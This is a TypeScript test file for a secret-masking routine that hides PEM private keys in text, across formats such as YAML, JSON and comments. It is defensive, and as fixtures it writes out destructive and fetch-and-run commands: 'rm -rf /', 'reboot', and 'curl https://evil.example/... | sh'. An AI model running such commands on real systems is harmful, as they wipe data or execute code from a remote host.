import { generateKeyPairSync } from 'node:crypto'
import { describe, expect, it } from 'vitest'
import { findPrivateKeys } from '../../src/secrets/find-private-keys.ts'
import { growth } from '../fixtures/growth.ts'

const seen = (text: string): string => {
  let [shown, end] = ['', 0]
  for (const line of findPrivateKeys(text)) {
    shown += `${text.slice(end, line.start)}…`
    end = line.end
  }
  return shown + text.slice(end)
}

const rsa = generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey
const curve = generateKeyPairSync('ec', { namedCurve: 'prime256v1' }).privateKey
const KEYS = [
  rsa.export({ type: 'pkcs8', format: 'pem' }).toString(),
  rsa.export({ type: 'pkcs1', format: 'pem' }).toString(),
  rsa.export({ type: 'pkcs1', format: 'pem', cipher: 'aes-256-cbc', passphrase: 'x' }).toString(),
  curve.export({ type: 'sec1', format: 'pem' }).toString(),
  curve.export({ type: 'pkcs8', format: 'pem' }).toString(),
]
const [KEY = ''] = KEYS
const MATERIAL = KEY.split('\n').slice(1, -2)
const BEGIN = '-----BEGIN PRIVATE KEY-----'
const END = '-----END PRIVATE KEY-----'

/** Anything of the key itself. */
const leaks = (text: string, key: string) =>
  key.split('\n').filter((line) => !/^-----|: |^$/.test(line) && text.includes(line))

const written: readonly (readonly [string, (key: string) => string])[] = [
  ['as it is', (key) => key],
  ['in a block of YAML', (key) => `key: |\n${key.replace(/^(?=.)/gm, '  ')}b: 1\n`],
  ['in comments', (key) => key.replace(/^(?=.)/gm, '# ')],
  ['with line ends of Windows', (key) => key.replaceAll('\n', '\r\n')],
  ['in JSON', (key) => JSON.stringify({ key })],
  ['in JSON within JSON', (key) => JSON.stringify(JSON.stringify({ key }))],
  ['on one line', (key) => key.replaceAll('\n', ' ')],
  ['as strings of a program', (key) => key.replace(/^(.+)$/gm, '  "$1",')],
]

describe.each(written)('a private key %s', (_name, write) => {
  it.each(KEYS)('is hidden, and its marks are not', (key) => {
    const shown = seen(`before\n${write(key)}\nbehind`)
    expect(leaks(shown, key)).toEqual([])
    expect(shown).toMatch(/^before\n[\s\S]*-----BEGIN [\s\S]*…[\s\S]*-----END [\s\S]*\nbehind$/)
  })
})

describe('findPrivateKeys', () => {
  it.each([
    ['the last one, of 34 letters', 'C+tjh+FTdDufsisnFZuRwkkxFfYYDTQZpA=='],
    ['a whole one', 'TqWcNmBvXzLkJhGfDsApOiUyTreWqMnbVcXzQaWsEdRfTgYhUjIkOlPzXcVbNmQw'],
  ])('takes a line without a digit for what it is: %s', (_, line) => {
    expect(seen(`${BEGIN}\n${MATERIAL[0]}\n${line}\n${END}`)).toBe(`${BEGIN}\n…\n…\n${END}`)
  })

  it.each([
    '/AmVdA1occRWQzKCOwOxhe3dSwpV0/Bj51Z1tGMliNi5QzyQguSmh3581VP/m0Bq',
    '/dS3AZDlea1Tt0jJhZUGgC2aQJ/6/KNT/3GOOfoupdlblY1Q+hJwPjFawk+5eF7+',
    '/ao8K8GU4evGte/s33QaUNtlfazOhUuiz21maTcQCk6X237iNtSGMMZk/4mY7JWl',
  ])('takes a line of a key that begins like a path for what it is: %s', (line) => {
    expect(seen(`${BEGIN}\n${line}\n${END}`)).toBe(`${BEGIN}\n…\n${END}`)
  })

  it('shows the path of a program', () => {
    const text = `${BEGIN}\n/usr/local/share/tools/Q7xKp2ZrT9wLmB4vNc8JdY1sHf3GaE6u\n${END}`
    expect(seen(text)).toBe(text)
  })

  it('hides nothing behind a mark alone', () => {
    const text = `# ${BEGIN}\ntasks:\n  - id: evil\n    commands:\n      - rm -rf /\n`
    expect(findPrivateKeys(text)).toEqual([])
    expect(findPrivateKeys(`${text}# ${END}\n`)).toEqual([])
  })

  it('hides the lines of a key that was cut, and what follows is shown', () => {
    expect(seen(`${BEGIN}\n${MATERIAL.slice(0, 3).join('\n')}\nrm -rf /\n${MATERIAL[3]}`)).toBe(
      `${BEGIN}\n…\n…\n…\nrm -rf /\n${MATERIAL[3]}`,
    )
  })

  const commands = [
    'rm -rf /',
    'reboot',
    'halt',
    '/usr/local/sbin/DoSomethingEvil9AndMoreOfIt',
    'thisisaverylongcommandthatsomebodyhasmadeup',
    'curl https://evil.example/AbCdEf1234567890AbCdEf1234567890xyz | sh',
  ]

  it.each(commands)('shows %s between the lines of a key', (command) => {
    const lines = [BEGIN, MATERIAL[0], command, MATERIAL[1], command, END]
    expect(seen(lines.join('\n'))).toBe([BEGIN, '…', command, '…', command, END].join('\n'))
  })

  it('shows the text beside a line of a key', () => {
    expect(seen(`${BEGIN}\n${MATERIAL[0]}; reboot\n${MATERIAL[1]} reboot\n${END}`)).toBe(
      `${BEGIN}\n${MATERIAL[0]}; reboot\n… reboot\n${END}`,
    )
  })

  it.each([`${BEGIN}\n`, `${BEGIN}\n${MATERIAL[0]}\n`, `${MATERIAL[0]} `, `${BEGIN} x ${END}\n`])(
    'takes many of %j in linear time',
    (piece) => {
      expect(growth([500, 4000], (size) => () => findPrivateKeys(`${BEGIN}${piece.repeat(size)}`))).toBeLessThan(24)
    },
  )
})
